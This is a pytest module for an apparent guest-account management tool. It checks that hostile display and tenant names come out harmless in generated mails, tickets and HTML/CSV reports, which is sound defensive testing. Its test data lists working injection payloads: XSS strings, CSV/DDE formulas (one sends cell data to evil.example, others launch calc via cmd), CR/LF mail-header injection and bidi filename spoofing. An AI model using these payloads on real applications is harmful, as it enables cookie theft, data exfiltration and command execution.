"""Attacker-controlled data in every output guestwarden writes: mails, tickets, HTML and CSV reports.

A guest writes its own displayName (and its home tenant names itself), so each of these strings must come out
as inert text: no markup in HTML, no formula in a CSV cell, one line without control or bidi characters in a
subject. The real templates render here (shared/templates/), through the real services, on fakes for Graph.
"""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.adapters.templates import RiskTemplates, StaleTemplates
from shared.domain.directory import DirectoryContact, TenantInformation
from shared.domain.risk import safe_subject
from shared.services.risk_response import respond_to_incident
from shared.services.stale import sweep_stale_guests
from shared.services.stale.report import csv_cell
from tests.fixtures.hypothesis_profile import count_case
from tests.unit.fakes_stale import FakeStaleGraph, MemoryReportStore
from tests.unit.risk_fakes import FABRIKAM, guest
from tests.unit.test_risk_response import RecordingSink, make, payload, world
from tests.unit.test_stale_service import REAL, Clock, make_deps
from tests.unit.test_stale_service import guest as stale_guest

BIDI = "\u202e\u2066\u2067\u2068\u2069\u202a\u202b\u202c\u202d\u200e\u200f"
MALICIOUS = [
    "<script>alert(document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=fetch('//evil.example')>",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "Rita\r\nBcc: victim@example.com",
    "Rita\nSubject: forged",
    "admin\u202egnp.exe",
    "\u2066=1+1\u2069",
    "Rita\x00\x1b[31m\x7f",
]
"""The named cases of the issue: markup, formula prefixes, CR/LF header injection, bidi overrides, controls."""
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


class TagCollector(HTMLParser):
    """Every start tag and attribute name in a document: the shape a name must not change."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.shape: list[tuple[str, tuple[str, ...]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape.append((tag, tuple(sorted(name for name, _ in attrs))))


def html_shape(document: str) -> list[tuple[str, tuple[str, ...]]]:
    parser = TagCollector()
    parser.feed(document)
    parser.close()
    return parser.shape


def assert_inert_html(rendered: str, benign: str, evil: str) -> None:
    """Same tags and attributes as with a harmless name, and the evil text nowhere verbatim (if it has markup)."""
    assert html_shape(rendered) == html_shape(benign)
    if any(c in evil for c in '<>"'):
        assert evil not in rendered


def assert_safe_subject(subject: str) -> None:
    assert subject == subject.strip()
    assert not any(ord(c) < 0x20 or ord(c) == 0x7F for c in subject), repr(subject)
    assert not any(c in BIDI for c in subject), repr(subject)
    assert "\u2028" not in subject and "\u2029" not in subject


def assert_safe_csv(document: bytes) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(document.decode("utf-8-sig"), newline="")))
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_START), (column, cell)
    return rows


# -- the stale sweep: guest and sponsor mails, the HTML and CSV reports ---------------------------------------


async def stale_outputs(name: str) -> tuple[list[Any], dict[str, bytes]]:
    graph = FakeStaleGraph([stale_guest("g1", display_name=name, mail="g1@fabrikam.com")])
    graph.sponsors["g1"] = [DirectoryContact("s1", name, "adele@contoso.com")]
    reports = MemoryReportStore()
    await sweep_stale_guests(make_deps(graph, Clock(), replace(REAL, notify_guest=True), reports=reports))
    return graph.outbox, reports.files


@pytest.mark.parametrize("evil", MALICIOUS)
async def test_stale_mails_and_reports_keep_a_malicious_name_inert(evil: str) -> None:
    mails, files = await stale_outputs(evil)
    benign_mails, benign_files = await stale_outputs("Rita Riskyhome")
    assert len(mails) == len(benign_mails) == 2  # the guest and the sponsor
    for mail, benign in zip(mails, benign_mails, strict=True):
        assert_safe_subject(mail.subject)
        assert_inert_html(mail.body, benign.body, evil)
    html = next(v for k, v in files.items() if k.endswith(".html")).decode()
    benign_html = next(v for k, v in benign_files.items() if k.endswith(".html")).decode()
    assert_inert_html(html, benign_html, evil)
    [row] = assert_safe_csv(next(v for k, v in files.items() if k.endswith(".csv")))
    # the name is still there for the reader: defused, not lost (CR/LF survive inside a quoted cell)
    assert row["displayName"] == ("'" + evil if evil.startswith(FORMULA_START) else evil)


@given(st.text(max_size=80))
def test_any_display_name_renders_inert_stale_mails_and_a_formula_free_cell(name: str) -> None:
    count_case("escaping: display names through the stale mails and a CSV cell")
    env = StaleTemplates()

    def context(guest_name: str) -> dict[str, Any]:
        return {
            "guest": {"name": guest_name, "address": guest_name},
            "basis": "lastSignIn",
            "inactive_since": "2026-01-01",
            "inactive_days": 200,
            "disable_on": "2026-12-07",
            "delete_on": "2027-01-06",
            "run_id": "run-1",
            "attest_url": "https://guestwarden.example.net/api/attest?t=v1.a.b",
            "keep_days": 90,
        }

    for template in ("guest_warning", "sponsor_warning"):
        subject, body = env.mail(template, context(name))
        _, benign = env.mail(template, context("x"))
        assert_safe_subject(subject)
        assert html_shape(body) == html_shape(benign)
    cell = csv_cell(name)
    assert not cell.startswith(FORMULA_START) and cell in (name, "'" + name)


# -- the risk flows: the guest notice, the ticket (webhook JSON, ServiceNow text), the subject ---------------


async def risk_outputs(name: str, organisation: str) -> tuple[Any, Any]:
    graph = world(guest(display_name=name, mail="g1@fabrikam.com"))
    graph.tenants = {FABRIKAM: TenantInformation(FABRIKAM, organisation, "fabrikam.com")}
    sink = RecordingSink()
    deps, _ = make(graph, sink)
    await respond_to_incident(payload(), deps)
    [mail] = graph.outbox
    [ticket] = sink.tickets
    return mail, ticket


@pytest.mark.parametrize("evil", MALICIOUS)
async def test_risk_notice_and_ticket_keep_a_malicious_guest_and_tenant_name_inert(evil: str) -> None:
    mail, ticket = await risk_outputs(evil, evil)
    benign_mail, benign_ticket = await risk_outputs("Rita Riskyhome", "Fabrikam, Inc.")
    assert_safe_subject(mail.subject)
    assert_inert_html(mail.body, benign_mail.body, evil)
    assert_safe_subject(ticket.title)
    # the webhook body is JSON: the name is a string value, it cannot add keys
    document = json.loads(json.dumps(ticket.to_json()))
    assert set(document) == set(benign_ticket.to_json())
    assert document["homeOrganisation"] == evil  # kept as data, for the partner's admin to read
    text = RiskTemplates().ticket_text(ticket)
    assert "\r" not in ticket.title and "\n" not in ticket.title
    assert text.count("\nUser: ") == 1  # a CR/LF in a name cannot forge a line of the ticket


@pytest.mark.parametrize("evil", MALICIOUS)
def test_safe_subject_is_one_line_without_controls_or_bidi(evil: str) -> None:
    assert_safe_subject(safe_subject(f"Your access {evil} ends"))


@given(st.text(max_size=120))
def test_any_text_becomes_a_safe_subject(text: str) -> None:
    count_case("escaping: subjects")
    assert_safe_subject(safe_subject(text))
